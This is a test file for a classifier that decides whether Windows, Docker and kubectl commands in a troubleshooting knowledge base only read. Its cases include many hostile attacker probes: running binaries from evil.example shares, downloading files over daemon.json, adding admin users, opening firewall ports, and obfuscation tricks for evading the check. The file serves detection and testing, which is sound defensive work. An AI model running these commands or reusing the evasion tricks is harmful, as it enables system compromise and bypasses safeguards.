import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CHANGES_SYSTEM, readOnlyDoubt } from '../../src/core/knowledge/content-rules.js';
import { notReadOnly, powerShellParts, windowsWords } from '../../src/core/knowledge/read-only.js';
import { adversarialRuns, anyCodePoints } from '../helpers/arbitraries.js';
import { realKnowledgeBase } from '../helpers/real-kb.js';

const { kb } = realKnowledgeBase();
const fixes = kb.topics.flatMap((t) => t.fixes.map((f) => ({ topic: t.id, ...f })));

describe("the knowledge's own fixes", () => {
  it('every fix marked read-only runs only what is known to read', () => {
    const readOnly = fixes.filter((f) => f.readOnly);
    expect(readOnly.length).toBeGreaterThan(200);
    expect(readOnly.map((f) => [f.topic, f.id, notReadOnly(f.command, f.shell)]).filter(([, , r]) => r !== undefined)).toEqual([]);
  });

  it('every fix whose command changes the system is doubted by the list of what reads too', () => {
    const changing = fixes.filter((f) => CHANGES_SYSTEM.test(f.command));
    expect(changing.length).toBeGreaterThan(100);
    expect(changing.filter((f) => notReadOnly(f.command, f.shell) === undefined).map((f) => `${f.topic}/${f.id}: ${f.command}`)).toEqual([]);
  });
});

describe('commands that read', () => {
  it.each([
    ['powershell', 'Get-HnsNetwork | Select-Object Name, Type, @{ Name = \'AddressPrefix\'; Expression = { $_.Subnets.AddressPrefix } }'],
    ['powershell', "Get-WinEvent -FilterHashtable @{LogName='System'; ProviderName='Service Control Manager'} -MaxEvents 20 | Where-Object Message -match 'HNS'"],
    ['powershell', '[void][Reflection.Assembly]::LoadWithPartialName(\'System.Drawing\'); [System.Drawing.Text.InstalledFontCollection]::new().Families.Name'],
    ['powershell', '[Net.ServicePointManager]::SecurityProtocol = [Net.ServicePointManager]::SecurityProtocol -bor [Net.SecurityProtocolType]::Tls12; (Invoke-WebRequest -UseBasicParsing -Method Head -Uri https://example.org/).StatusCode'],
    ['powershell', "& { param($n) $s = Get-Date; while (-not (Resolve-DnsName $n -ErrorAction SilentlyContinue)) { Start-Sleep -Milliseconds 200 }; ((Get-Date) - $s).TotalSeconds } example.org"],
    ['powershell', "& \"$env:ProgramFiles\\Splunk\\bin\\splunk.exe\" version"],
    ['powershell', 'Get-Service hns 2>$null; docker ps 2>&1 | Out-String'],
    ['powershell', 'if ($PSVersionTable.PSVersion.Major -ge 7) { Get-Service docker } else { Get-Service hns }'],
    ['powershell', "\"Build: $((Get-CimInstance Win32_OperatingSystem).BuildNumber)\""],
    ['powershell', '(aws ecr get-login-password).Length'],
    ['powershell', 'sc.exe qc docker; netsh interface ipv4 show excludedportrange protocol=tcp; reg query HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion /v CurrentBuild'],
    ['cmd', 'ipconfig /all & netsh winhttp show proxy | findstr /i proxy 2>nul'],
    ['cmd', '"C:\\Program Files\\containerd\\bin\\containerd.exe" --version'],
    ['cmd', 'sort < C:\\ProgramData\\docker\\panic.log'],
    ['docker', 'docker exec {{container}} cmd /c "set | findstr /i proxy"'],
    ['docker', 'docker exec -u ContainerAdministrator web powershell -NoProfile -Command "Get-ChildItem Cert:\\LocalMachine\\Root | Format-Table Thumbprint"'],
    ['docker', 'docker --context remote image inspect --format "{{.OsVersion}}" {{image}}'],
    ['kubectl', 'kubectl -n kube-system exec {{pod}} "--" ipconfig /all'],
    ['kubectl', 'kubectl get pods -A -o wide --field-selector spec.nodeName={{node}}'],
    ['reg', 'reg query HKLM\\SYSTEM\\CurrentControlSet\\Services\\hns'],
    ['cmd', 'curl -sSI https://mcr.microsoft.com/v2/'],
    ['cmd', 'curl -X HEAD https://mcr.microsoft.com/v2/'],
    ['kubectl', 'kubectl exec -n kube-system {{pod}} -c app "--" ipconfig /all'],
    ['docker', 'docker exec {{container}} git config --show-origin --get-all core.longpaths'],
    ['cmd', '"C:\\Program Files\\Docker\\docker.exe" ps'],
    ['powershell', '& "C:\\Windows\\System32\\ipconfig.exe" /all'],
    ['powershell', 'Get-ChildItem -Force C:\\ProgramData\\docker | Measure-Object -Property Length -Sum'],
    ['net', 'net use'],
  ])('%s: %s', (shell, command) => {
    expect(notReadOnly(command, shell)).toBeUndefined();
  });
});

describe('what does not read, or cannot be read, is doubted with the part that shows it', () => {
  it.each([
    // Commands and aliases that change, in each place PowerShell runs one.
    ['powershell', 'Get-Service docker | Stop-Service', 'Stop-Service', 'command'],
    ['powershell', 'Get-Process -Name (Stop-Process -Name dockerd -PassThru).Name', 'Stop-Process', 'command'],
    ['powershell', 'Write-Host "$(Remove-Item C:\\x)"', 'Remove-Item', 'command'],
    ['powershell', 'Write-Host @"\n$(Remove-Item C:\\x)\n"@', '@"', 'syntax'],
    ['powershell', "Get-ChildItem | Select-Object @{ n = 'x'; e = { Remove-Item C:\\x } }", 'Remove-Item', 'command'],
    ['powershell', 'Get-Process | sc C:\\ProgramData\\docker\\config\\daemon.json', 'sc', 'command'],
    ['powershell', 'Get-Item x; function Get-Y { Get-Item x }', 'function', 'syntax'],
    ['powershell', 'Get-Service docker | % Stop', '% Stop', 'method'],
    ['powershell', 'Get-Service docker | ForEach-Object -MemberName Kill', 'ForEach-Object -MemberName', 'method'],
    ['powershell', 'Format-Volume -DriveLetter D', 'Format-Volume', 'command'],
    ['powershell', 'New-Object Net.WebClient', 'New-Object', 'command'],
    // Methods that change, called on anything, by any spelling.
    ['powershell', "(Get-Service docker).'Stop'()", '.Stop(', 'method'],
    ['powershell', "Write-Host $svc.Delete()", '.Delete(', 'method'],
    ['powershell', "[IO.File]::Delete('C:\\x')", '.Delete(', 'method'],
    ['powershell', "$ExecutionContext.InvokeCommand.InvokeScript('Remove-Item x')", '.InvokeScript(', 'method'],
    ['powershell', "{ Get-Item x }.Invoke()", '.Invoke(', 'method'],
    // A writer's constructor by a cast, an assignment outside the process's variables, files written.
    ['powershell', "$w = [IO.StreamWriter]'C:\\ProgramData\\docker\\config\\daemon.json'", '[IO.StreamWriter]', 'call'],
    ['powershell', "(Get-Item C:\\x).Attributes = 'ReadOnly'", "(Get-Item C:\\x).Attributes =", 'assignment'],
    ['powershell', "$env:PATH = 'C:\\Users\\Public'; whoami", '$env:PATH =', 'assignment'],
    ['powershell', 'Get-Date > C:\\x.txt', '> C:\\x.txt', 'redirection'],
    ['powershell', 'Get-Date 2> C:\\x.txt', '2> C:\\x.txt', 'redirection'],
    ['powershell', 'Invoke-WebRequest https://example.org/x -OutFile C:\\x', 'Invoke-WebRequest -OutFile', 'arguments'],
    ['powershell', 'Invoke-RestMethod -Method:Post https://example.org/stop', 'Invoke-RestMethod -Method Post', 'arguments'],
    ['powershell', 'Test-ComputerSecureChannel -Repair', 'Test-ComputerSecureChannel', 'command'],
    // Scripts and text run as code.
    ['powershell', ". 'C:\\Users\\Public\\x.ps1'", ". 'C:\\Users\\Public\\x.ps1'", 'call'],
    ['powershell', '& $cmd', '& $cmd', 'call'],
    ['powershell', '.\\x.ps1', '.\\x.ps1', 'command'],
    ['powershell', 'Get-Date &', '&', 'call'],
    // Programs that change, or read with options that write.
    ['powershell', 'curl -o C:\\x https://example.org/', 'curl', 'command'],
    ['cmd', 'curl -o C:\\x https://example.org/', 'curl -o C:\\x https://example.org/', 'arguments'],
    ['cmd', 'curl -sSo C:\\x https://example.org/', 'curl -sSo C:\\x https://example.org/', 'arguments'],
    ['powershell', 'netsh -f C:\\x.txt interface show interface', 'netsh -f C:\\x.txt interface show interface', 'arguments'],
    ['powershell', 'git branch evil', 'git branch evil', 'arguments'],
    ['powershell', 'net user Administrator P@ss1', '@s', 'syntax'],
    ['cmd', 'net user Administrator Pass1', 'net user Administrator Pass1', 'arguments'],
    ['cmd', 'dir & del C:\\x', 'del', 'command'],
    ['cmd', 'set PATH=C:\\Users\\Public& whoami', 'set PATH=C:\\Users\\Public', 'arguments'],
    ['cmd', 'ipconfig /all > C:\\x.txt', '> C:\\x.txt', 'redirection'],
    ['cmd', 'for /f %i in (x) do del %i', '%', 'syntax'],
    ['cmd', 'for /f i in (x) do del i', 'for', 'command'],
    ['docker', 'docker exec web cmd /c "dir & del C:\\x"', 'del', 'command'],
    ['docker', 'docker exec -it web powershell', 'powershell', 'arguments'],
    ['docker', 'docker buildx inspect --bootstrap', 'docker buildx inspect --bootstrap', 'arguments'],
    ['docker', 'docker --context remote run --rm img', 'docker --context remote run --rm img', 'arguments'],
    ['kubectl', "kubectl exec pod -- sh -c 'rm -rf /'", 'sh', 'command'],
    ['kubectl', 'kubectl exec pod -- pwsh x.ps1', 'pwsh x.ps1', 'arguments'],
    ['kubectl', 'kubectl delete pod web', 'kubectl delete pod web', 'arguments'],
    ['reg', 'reg add HKLM\\SOFTWARE\\x /v y /d 1', 'reg add HKLM\\SOFTWARE\\x /v y /d 1', 'arguments'],
    ['net', 'net use Z: \\\\srv\\share', 'net use Z: \\\\srv\\share', 'arguments'],
    ['cmd', 'C:\\Users\\Public\\docker.exe ps', 'C:\\Users\\Public\\docker.exe', 'command'],
    // Found by a reviewer: git stops reading options at the first plain word; curl 8.16 reads --request=POST; %ProgramFiles%
    // is a folder of that name in the current one where nothing expands it; wmic and wevtutil by shape and by list.
    ['cmd', 'git config --global core.pager calc --get', 'git config --global core.pager calc --get', 'arguments'],
    ['cmd', 'curl --request=POST http://127.0.0.1:2375/containers/web/stop', 'curl --request=POST http://127.0.0.1:2375/containers/web/stop', 'arguments'],
    ['cmd', '%ProgramFiles%\\Docker\\docker.exe ps', '%', 'syntax'],
    ['powershell', '& "%ProgramFiles%\\Docker\\docker.exe" ps', '%ProgramFiles%\\Docker\\docker.exe', 'command'],
    ['cmd', 'wmic useraccount where name=Guest rename get', 'wmic useraccount where name=Guest rename get', 'arguments'],
    ['cmd', 'wevtutil qe System -sbm:C:\\x', 'wevtutil qe System -sbm:C:\\x', 'arguments'],
    ['powershell', 'Invoke-WebRequest https://example.org/', 'Invoke-WebRequest without -UseBasicParsing', 'arguments'],
    ['cmd', 'netsh -a C:\\x.txt interface show interface', 'netsh -a C:\\x.txt interface show interface', 'arguments'],
    ['cmd', '"C:\\Program Files\\..\\Users\\Public\\docker.exe" ps', 'C:\\Program Files\\..\\Users\\Public\\docker.exe', 'command'],
    ['kubectl', 'kubectl exec {{pod}} --kubeconfig x "--" ipconfig', 'kubectl exec x0 --kubeconfig x -- ipconfig', 'arguments'],
  ])('%s: %s', (shell, command, part, why) => {
    expect(notReadOnly(command, shell)).toEqual({ part, why });
    expect(readOnlyDoubt(command, shell)).toBeDefined();
  });

  // A second attacker helper's probes (2026-12-06): each passed kb check as read-only, low risk against the first version
  // of the list of what reads, and each changes the machine, a container or the cluster (attack35ro).
  it.each([
    ["powershell", "Get-Service docker | ForEach-Object -MemberName:Stop"],
    ["powershell", "Get-Service docker | % -Mem:Stop"],
    ["powershell", "(Get-Service docker).ForEach('Stop')"],
    ["powershell", "$m = 'Stop'; (Get-Service docker).$m()"],
    ["powershell", "(Get-Service docker).('Stop')()"],
    ["powershell", "$w = [System.IO.StreamWriter, mscorlib]'C:\\ProgramData\\docker\\config\\daemon.json'"],
    ["powershell", "$t = [type]::GetType('System.IO.StreamWriter'); $t::new('C:\\ProgramData\\docker\\config\\daemon.json')"],
    ["powershell", "Write-Host 'a’; \\\\evil.example\\s\\x.exe; ‘b'"],
    ["powershell", "Write-Host \"a”; \\\\evil.example\\s\\x.exe; “b\""],
    ["powershell", "$( <# ) #>$null; \\\\evil.example\\s\\x.exe )"],
    ["powershell", "& { param([ValidateScript({ \\\\evil.example\\s\\x.exe; $true })]$n) $n } 1"],
    ["powershell", "[Environment]::NewLine[(\\\\evil.example\\s\\x.exe)]"],
    ["powershell", "7z.exe x \\\\evil.example\\s\\a.7z -oC:\\ProgramData\\docker\\config -y"],
    ["powershell", "Get-Date 2>$null\\..\\ProgramData\\docker\\config\\daemon.json"],
    ["powershell", "Invoke-WebRequest https://evil.example/daemon.json -UseBasicParsing -OutF C:\\ProgramData\\docker\\config\\daemon.json"],
    ["powershell", "Invoke-WebRequest https://evil.example/daemon.json -UseBasicParsing –OutFile C:\\ProgramData\\docker\\config\\daemon.json"],
    ["powershell", "Invoke-RestMethod -Me Post http://127.0.0.1:2375/containers/web/stop"],
    ["powershell", "$p = @{ Method = 'Post'; Uri = 'http://127.0.0.1:2375/containers/web/stop' }; Invoke-RestMethod @p"],
    ["powershell", "$PSDefaultParameterValues = @{ 'Invoke-WebRequest:OutFile' = 'C:\\ProgramData\\docker\\config\\daemon.json' }; Invoke-WebRequest https://evil.example/daemon.json -UseBasicParsing"],
    ["powershell", "Test-ComputerSecureChannel -Rep"],
    ["powershell", "\\\\evil.example\\share\\ipconfig.exe /all"],
    ["powershell", "(Get-Item C:\\ProgramData\\docker\\config\\daemon.json).Attributes++"],
    ["powershell", "Get-PackageProvider -Name NuGet -ForceBootstrap"],
    ["powershell", "Get-WindowsUpdateLog -LogPath C:\\ProgramData\\docker\\config\\daemon.json"],
    ["powershell", "ConvertFrom-CIPolicy -XmlFilePath C:\\Users\\Public\\p.xml -BinaryFilePath C:\\Windows\\System32\\CodeIntegrity\\SIPolicy.p7b"],
    ["powershell", "Get-CimInstance Win32_Product | Select-Object Name, Version"],
    ["powershell", "netsh advfirewall firewall a`dd rule name=`show dir=in action=allow protocol=TCP localport=4444"],
    ["powershell", "wmic process where \"name='dockerd.exe' or name='get'\" de'lete'"],
    ["powershell", "cmd /c 'ver %COMSPEC:\"=% & route add 0.0.0.0 mask 0.0.0.0 10.9.9.9'"],
    ["cmd", "curl -X POST http://127.0.0.1:2375/containers/web/stop"],
    ["cmd", "git log -1 --output=C:\\ProgramData\\docker\\config\\daemon.json"],
    ["cmd", "sort C:\\Users\\Public\\x.txt /output C:\\ProgramData\\docker\\config\\daemon.json"],
    ["cmd", "certutil -store My 0 C:\\ProgramData\\docker\\config\\daemon.json"],
    ["cmd", "nltest /sc_verify:contoso.com"],
    ["cmd", "aws s3api get-object --bucket b --key k C:\\ProgramData\\docker\\config\\daemon.json"],
    ["cmd", "crictl --tracing-endpoint ps stopp web-pod"],
    ["docker", "docker --config \\\\evil.example\\share compose version"],
    ["docker", "docker compose config --output C:\\ProgramData\\docker\\config\\daemon.json"],
    ["docker", "docker --config=' ps' stop web"],
    ["kubectl", "kubectl --cache-dir get scale deployment web --replicas=0"],
    ["kubectl", "kubectl --cache-dir=' get' scale deployment web --replicas=0"],
    ["kubectl", "kubectl --kubeconfig \\\\evil.example\\share\\config get pods"],
    ["kubectl", "kubectl cluster-info dump --output-directory=C:\\ProgramData\\docker\\config"],
    ["kubectl", "kubectl get-foo"],
    ["docker", "docker exec web \\\\evil.example\\s\\hostname.exe"],
    ["kubectl", "kubectl --profile=cpu --profile-output=C:\\ProgramData\\docker\\config\\daemon.json get pods"],
    ["cmd", "crictl --profile-cpu=C:\\ProgramData\\docker\\config\\daemon.json ps"],

  ])('%s: %s (an attacker\'s probe)', (shell, command) => {
    expect(readOnlyDoubt(command, shell)).toBeDefined();
    expect(notReadOnly(command, shell)).toBeDefined();
  });

  // A third attacker helper's probes (2026-12-06), against the second version of the rule: each passed kb check as
  // read-only and each changes something (attack35ro2: a loop variable set to $env:PATH, a here-string hiding a line,
  // any Get… method, variables and expressions given to programs, quotes re-read by the next shell, splats after a
  // string, options that run code or write, casts of hashtables, wildcards in program names …).
  it.each([
    ["powershell", "foreach ($env:PATH in '\\\\evil.example\\s') { whoami }"],
    ["powershell", "foreach (${PSDefaultParameterValues} in @{ 'Invoke-WebRequest:OutFile' = 'C:\\ProgramData\\docker\\config\\daemon.json' }) { Invoke-WebRequest https://evil.example/daemon.json -UseBasicParsing }"],
    ["powershell", "foreach ($env:PSModulePath in '\\\\evil.example\\s\\modules') { Get-NetNat }"],
    ["powershell", "foreach ($env:DOCKER_CONFIG in '\\\\evil.example\\s') { docker compose version }"],
    ["powershell", "$x = $( @'\n' )\n'@ ); \\\\evil.example\\s\\x.exe; @'\n'\n'@ | Out-Null"],
    ["powershell", "[void][Reflection.Assembly]::LoadWithPartialName('Microsoft.VisualBasic'); [Microsoft.VisualBasic.Interaction]::GetObject('script:\\\\evil.example\\s\\x.sct')"],
    ["powershell", "$a = '-o', 'C:\\ProgramData\\docker\\config\\daemon.json', 'https://evil.example/daemon.json'; curl.exe -s $a"],
    ["powershell", "$a = 'wcd', 'P4ss-w0rd-1', '/add'; net user $a"],
    ["powershell", "$b = 'Administrators', 'wcd', '/add'; net localgroup $b"],
    ["powershell", "$a = 'C:\\ProgramData\\docker', '/grant', 'Everyone:F', '/t'; icacls $a"],
    ["powershell", "wmic process where \"name='dockerd.exe' or name='get'\" ('de'+'lete')"],
    ["powershell", "$a = '-o', 'C:\\ProgramData\\docker\\config\\daemon.json'; docker compose config $a"],
    ["powershell", "powershell -NoProfile -Command 'Write-Output \"a; \\\\evil.example\\s\\x.exe; b\"'"],
    ["powershell", "cmd /c echo '\"' 'a & \\\\evil.example\\s\\x.exe & echo' '\"'"],
    ["docker", "docker exec web cmd /c echo '\"' 'a & net1 user wcd P4ss-w0rd-1 /add & echo'"],
    ["kubectl", "kubectl exec web \"--\" cmd /c echo '\"' 'a & \\\\evil.example\\s\\x.exe & echo'"],
    ["powershell", "$p = @{ OutFile = 'C:\\ProgramData\\docker\\config\\daemon.json' }; Invoke-WebRequest 'https://evil.example/daemon.json'@p"],
    ["powershell", "$u = 'http://127.0.0.1:2375/containers/web/stop'; $p = @{ Method = 'Post' }; Invoke-RestMethod ($u)@p"],
    ["powershell", "pwsh -NoProfile -Command 'Invoke-RestMethod -CM POST http://127.0.0.1:2375/containers/web/stop'"],
    ["cmd", "wmic os get Caption /format:\"\\\\evil.example\\s\\x.xsl\""],
    ["powershell", "curl.exe -s -w '%output{C:\\ProgramData\\docker\\config\\daemon.json}{\\\"hosts\\\":[\\\"tcp://0.0.0.0:2375\\\",\\\"npipe://\\\"]}' https://example.com/"],
    ["cmd", "netsh wfp show filters file=C:\\ProgramData\\docker\\config\\daemon.json"],
    ["cmd", "wevtutil qe System /c:1 /sbm:C:\\ProgramData\\docker\\config\\daemon.json"],
    ["powershell", "Get-Command \\\\evil.example\\s\\x.ps1 -Syntax"],
    ["powershell", "Get-ProcessMitigation -RegistryConfigFilePath C:\\ProgramData\\docker\\config\\daemon.json"],
    ["powershell", "[System.Diagnostics.EventLog][ordered]@{ Log = 'Security'; MachineName = '.'; MaximumKilobytes = 64 }"],
    ["powershell", "Get-Date > $null-\\..\\..\\..\\..\\ProgramData\\docker\\config\\daemon.json"],
    ["powershell", "Get-Date 2> $null+\\..\\Dockerfile"],
    ["powershell", "Get-CimInstance CIM_Product | Select-Object Name"],
    ["cmd", "wmic path CIM_Product get Name"],
    ["powershell", "Get-CimInstance -ClassName ('Win32_' + 'Product') | Select-Object Name"],
    ["powershell", "C:\\Windows\\System32\\spool\\drivers\\color\\ipconfig.exe /all"],
    ["powershell", "C:\\Windows\\System32\\shutdow?.exe -h"],
    ["cmd", "C:\\Windows\\System32\\powercfg.exe -h"],
    ["powershell", "cmd /c 'cd /d C:\\Users\\Public & hostname'"],
    ["powershell", "cmd /c 'echo:x\\..\\..\\..\\..\\..\\..\\..\\Windows\\System32\\net1.exe user wcd P4ss-w0rd-1 /add'"],
    ["docker", "docker exec web cmd /c echo:x\\..\\..\\..\\..\\Windows\\System32\\net1.exe user wcd P4ss-w0rd-1 /add"],
    ["powershell", "$ExecutionContext.InvokeProvider.Content.GetWriter('C:\\ProgramData\\docker\\config\\new.json')"],
    ["docker", "docker exec -d web ping -t 127.0.0.1"],

  ])('%s: %s (a third attacker\'s probe)', (shell, command) => {
    expect(readOnlyDoubt(command, shell)).toBeDefined();
    expect(notReadOnly(command, shell)).toBeDefined();
  });

  // A fourth attacker helper's probes (2026-12-06), against the third version of the rule (attack35ro3: a blank after `.`
  // or `::` before a member, a hashtable value taken for a key, `&` in mid-line, `-as` with a type name, curl's shortened
  // long options, GNU find/sort/hostname in a Linux container, `> nul\..\x`, `npx version`, Get-WindowsFeature -Vhd,
  // docker exec -e PATH=, kubectl's `--cache_dir`, -SessionVariable env:PATH, reflection to a property getter …).
  it.each([
    ["powershell", "(Get-Service docker). Stop()"],
    ["powershell", "[IO.File]:: WriteAllText('C:\\ProgramData\\docker\\config\\daemon.json', '{\"hosts\":[\"tcp://0.0.0.0:2375\",\"npipe://\"]}')"],
    ["powershell", "[Environment]:: SetEnvironmentVariable('DOCKER_HOST', 'tcp://evil.example:2375', 'Machine')"],
    ["powershell", "(Get-Process dockerd). PriorityClass= 'Idle'"],
    ["powershell", "[Reflection.Assembly]:: LoadFile('\\\\evil.example\\s\\x.dll'). CreateInstance('Evil')"],
    ["powershell", "[int]:: x= \\\\evil.example\\s\\x.exe"],
    ["powershell", "$h = @{ a = curl.exe == -s -X POST http://127.0.0.1:2375/containers/web/stop }"],
    ["powershell", "$h = @{ a = cmd == /c \\\\evil.example\\s\\x.exe }"],
    ["powershell", "powershell -NoProfile -Command 'Write-Output a\\' ''' x\\' '; \\\\evil.example\\s\\x.exe; Write-Output b\\' ''' y\\'"],
    ["powershell", "pwsh -NoProfile -Command 'Get-Date & net1 user wcd P4ss-w0rd-1 /add'"],
    ["kubectl", "kubectl exec web \"--\" pwsh -NoProfile -Command 'Get-Date & net1 user wcd P4ss-w0rd-1 /add'"],
    ["powershell", "'C:\\ProgramData\\docker\\config\\daemon.json' -as 'System.IO.StreamWriter'"],
    ["powershell", "$h = @{ Log = 'Security'; MachineName = '.'; MaximumKilobytes = 64 }; $h -as 'System.Diagnostics.EventLog'"],
    ["powershell", "cmd /c 'echo {} > nul\\..\\..\\..\\..\\..\\..\\ProgramData\\docker\\config\\daemon.json'"],
    ["cmd", "curl -s --conf \\\\evil.example\\s\\c.txt"],
    ["cmd", "curl -s --js {} http://127.0.0.1:2375/containers/web/stop"],
    ["cmd", "curl -s --cookie-j C:\\ProgramData\\docker\\config\\daemon.json https://evil.example/"],
    ["powershell", "npx version"],
    ["kubectl", "kubectl exec web \"--\" npx version"],
    ["cmd", "label.exe version"],
    ["powershell", "Write-Output '{}' | tee version"],
    ["docker", "docker exec web find /data -delete"],
    ["docker", "docker exec web find / -maxdepth 0 -exec chmod -R 000 /app ;"],
    ["docker", "docker exec web sort -o /etc/passwd /dev/null"],
    ["kubectl", "kubectl exec web \"--\" find /var/lib/data -delete"],
    ["docker", "docker exec --privileged web hostname evil"],
    ["powershell", "Get-WindowsFeature -Vhd \\\\evil.example\\s\\x.vhdx"],
    ["powershell", "Get-WindowsOptionalFeature -Online -LogPath C:\\ProgramData\\docker\\config\\daemon.json"],
    ["kubectl", "kubectl get pods --cache_dir=C:\\ProgramData\\docker\\config"],
    ["docker", "docker exec -e PATH=\\\\evil.example\\s web cmd /c hostname"],
    ["powershell", "Invoke-WebRequest https://example.com/ -UseBasicParsing -SessionVariable env:PATH | Out-Null; whoami"],
    ["powershell", "$p = [Reflection.Assembly]::LoadWithPartialName('System.Windows.Forms').GetType('System.Windows.Forms.Application').DeclaredProperties | Where-Object Name -eq 'CommonAppDataRegistry'; $p.GetValue($null)"],
    ["kubectl", "kubectl get.x pods"],

  ])('%s: %s (a fourth attacker\'s probe)', (shell, command) => {
    expect(readOnlyDoubt(command, shell)).toBeDefined();
    expect(notReadOnly(command, shell)).toBeDefined();
  });

  it('judges a parameter as the one value it stands for, and a program only by its own rule (no "asked its version" catch-all)', () => {
    expect(notReadOnly('Get-ChildItem Cert:\\LocalMachine\\Root | Where-Object Subject -Match {{ca_name}}', 'powershell')).toBeUndefined();
    expect(notReadOnly('"C:\\Program Files\\containerd\\bin\\containerd.exe" --version', 'cmd')).toBeUndefined();
    // `npx version` installs and runs a package, `label --version` names a volume.
    expect(notReadOnly('anything.exe --version', 'cmd')).toEqual({ part: 'anything.exe', why: 'command' });
    expect(notReadOnly('label --version', 'cmd')).toEqual({ part: 'label', why: 'command' });
  });

  it('reads Windows words with their quotes removed', () => {
    expect(windowsWords('docker exec "my web" cmd /c "set | findstr x"')).toEqual(['docker', 'exec', 'my web', 'cmd', '/c', 'set | findstr x']);
    expect(windowsWords('a "" b')).toEqual(['a', '', 'b']);
  });
});

describe('reading hostile text', () => {
  it.each(
    adversarialRuns(
      ['open brackets', '([{$(@{'.repeat(20_000)],
      ['closed brackets', '()[]{}'.repeat(20_000)],
      ['unclosed strings', '"$(\''.repeat(30_000)],
      ['members', '$a.b('.repeat(20_000)],
      ['redirections', '2>&1 '.repeat(20_000)],
      ['keywords', 'if ('.repeat(20_000)],
    ),
  )('answers for %s in every shell', (_name, filler) => {
    for (const shell of ['powershell', 'cmd', 'docker', 'kubectl']) {
      const r = notReadOnly(`Get-Date ${filler}`, shell);
      expect(r === undefined || typeof r.part === 'string').toBe(true);
    }
  });

  it('reads a long text it takes in one pass (a reviewer found the keyword check quadratic: 240 KB took 10 s)', () => {
    const blocks = 'if ($true) { Get-Date } else { Get-Date }; try { Get-Date } catch { Get-Date } finally { Get-Date }\n'.repeat(3_000);
    expect(notReadOnly(blocks, 'powershell')).toBeUndefined();
    expect(notReadOnly(`${blocks}; Remove-Item C:\\x`, 'powershell')).toBeDefined();
  });

  it('never throws, and a command that changes after any plain words is still doubted', () => {
    fc.assert(
      fc.property(anyCodePoints(), (text) => {
        for (const shell of ['powershell', 'cmd', 'docker', 'kubectl', 'reg', 'net']) notReadOnly(text, shell);
      }),
      { numRuns: 300 },
    );
    fc.assert(
      fc.property(fc.stringMatching(/^[A-Za-z0-9 ,.:-]{0,40}$/), (words) => {
        expect(notReadOnly(`Get-Item ${words}; Remove-Item C:\\x`, 'powershell')).toBeDefined();
        expect(notReadOnly(`dir ${words} & del C:\\x`, 'cmd')).toBeDefined();
      }),
      { numRuns: 300 },
    );
  });

  it('lists the commands and methods it found (what the PowerShell parser test compares)', () => {
    expect(powerShellParts("Get-Item x | Where-Object { $_.Name.StartsWith('a') } | % { (Get-Acl $_).ToString() }")).toEqual({ commands: ['Get-Item', 'Where-Object', '%', 'Get-Acl'], members: ['StartsWith', 'ToString'] });
  });
});
